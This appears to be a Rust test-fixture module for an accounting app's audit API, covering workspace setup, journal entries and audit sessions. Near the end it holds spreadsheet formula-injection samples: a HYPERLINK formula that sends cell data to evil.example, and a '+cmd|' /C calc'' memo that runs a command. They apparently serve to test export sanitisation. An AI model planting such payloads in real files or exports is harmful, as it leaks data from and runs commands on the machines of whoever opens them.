//! A workspace with the default chart and entries posted through the API: the books the
//! audit tests read.

use serde_json::{json, Value};

use super::{Session, TestApp};

pub struct Books {
    pub owner: Session,
    pub workspace: String,
    /// `/api/v1/accounting/workspaces/{workspace}/`.
    pub base: String,
}

/// Ada's "Lagos Office" workspace with the default chart set up.
pub async fn books(app: &TestApp) -> Books {
    let owner = app.signed_up("ada@books.ng").await;
    let workspace = app.workspace(&owner, "Lagos Office").await;
    let base = format!("/api/v1/accounting/workspaces/{workspace}/");
    let setup = app
        .post(
            &format!("{base}accounts/default/setup/"),
            Some(&owner.access),
            json!(null),
        )
        .await;
    assert!(setup.status < 300, "{}", setup.body);
    Books {
        owner,
        workspace,
        base,
    }
}

/// The id of the account with `code`.
pub async fn leaf(app: &TestApp, books: &Books, code: &str) -> String {
    fn find(nodes: &[Value], code: &str) -> Option<String> {
        nodes.iter().find_map(|n| {
            if n["account_code"] == code {
                return n["id"].as_str().map(str::to_owned);
            }
            find(
                n["children"].as_array().map(Vec::as_slice).unwrap_or(&[]),
                code,
            )
        })
    }
    let tree = app
        .read(
            &format!("{}accounts/", books.base),
            Some(&books.owner.access),
        )
        .await;
    find(tree.body["data"].as_array().expect("tree"), code).expect("account")
}

/// Posts a cash sale (1120 debit, 4100 credit) dated `date`; answers the entry's id.
pub async fn post(app: &TestApp, books: &Books, date: &str, amount: &str) -> String {
    let (cash, sales) = (
        leaf(app, books, "1120").await,
        leaf(app, books, "4100").await,
    );
    let posted = app
        .post(
            &format!("{}journal-entries/", books.base),
            Some(&books.owner.access),
            json!({"date": date, "memo": "Sale", "post": true, "lines": [
                {"account_id": cash, "debit": amount},
                {"account_id": sales, "credit": amount}
            ]}),
        )
        .await;
    assert_eq!(posted.status, 201, "{}", posted.body);
    posted.body["data"]["id"].as_str().expect("id").to_owned()
}

/// Reverses entry `id` by an entry dated `date`.
pub async fn reverse(app: &TestApp, books: &Books, id: &str, date: &str) {
    let reversed = app
        .post(
            &format!("{}journal-entries/{id}/reverse/", books.base),
            Some(&books.owner.access),
            json!({ "date": date }),
        )
        .await;
    assert_eq!(reversed.status, 201, "{}", reversed.body);
}

/// `/api/v1/audit/workspaces/{workspace}/sessions/`.
pub fn sessions(books: &Books) -> String {
    format!("/api/v1/audit/workspaces/{}/sessions/", books.workspace)
}

/// `/api/v1/audit/workspaces/{workspace}/time-travel/`.
pub fn time_travel(books: &Books) -> String {
    format!("/api/v1/audit/workspaces/{}/time-travel/", books.workspace)
}

/// Opens a FY2026 session (materiality 5,000.00) with `extra` fields merged into the body.
pub async fn open_with(app: &TestApp, books: &Books, extra: Value) -> super::Reply {
    let mut body = json!({"name": "FY2026 audit", "period_start": "2026-01-01",
        "period_end": "2026-12-31", "materiality": "5000.00",
        "performance_materiality": "3750.00", "approval_thresholds": ["1000.00"],
        "utc_offset_seconds": 3600});
    if let (Some(body), Some(extra)) = (body.as_object_mut(), extra.as_object()) {
        body.extend(extra.clone());
    }
    app.post(&sessions(books), Some(&books.owner.access), body)
        .await
}

/// Opens the FY2026 session; answers its id.
pub async fn open(app: &TestApp, books: &Books) -> String {
    let opened = open_with(app, books, json!({})).await;
    assert_eq!(opened.status, 201, "{}", opened.body);
    opened.body["data"]["id"].as_str().expect("id").to_owned()
}

/// A query value as RFC 3339 travels in a URL (`+` would read as a space).
pub fn url_time(time: &str) -> String {
    time.replace('+', "%2B")
}

/// A cell that would run as a formula in a spreadsheet.
pub const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

/// An account named like a formula (code 6990, expense) and an entry on it whose memo,
/// reference and line description start formulas too; 1500.00 from cash.
pub async fn formula_named_entry(app: &TestApp, books: &Books) {
    let token = Some(books.owner.access.as_str());
    let tree = app.read(&format!("{}accounts/", books.base), token).await;
    let expenses = tree.body["data"]
        .as_array()
        .expect("tree")
        .iter()
        .find(|n| n["account_type"] == "expense")
        .and_then(|n| n["id"].as_str())
        .expect("an expense root")
        .to_owned();
    let created = app
        .post(
            &format!("{}accounts/", books.base),
            token,
            json!({"name": HYPERLINK, "account_code": "6990", "account_type": "expense",
                   "parent_id": expenses}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.body);
    let account = created.body["data"]["id"].as_str().expect("id").to_owned();
    let cash = leaf(app, books, "1120").await;
    let posted = app
        .post(
            &format!("{}journal-entries/", books.base),
            token,
            json!({"date": "2026-02-02", "memo": "+cmd|' /C calc'!A0", "reference": "@SUM(1+1)",
                   "post": true, "lines": [
                {"account_id": account, "debit": "1500.00", "description": "-2+3"},
                {"account_id": cash, "credit": "1500.00", "description": "Paid"}
            ]}),
        )
        .await;
    assert_eq!(posted.status, 201, "{}", posted.body);
}
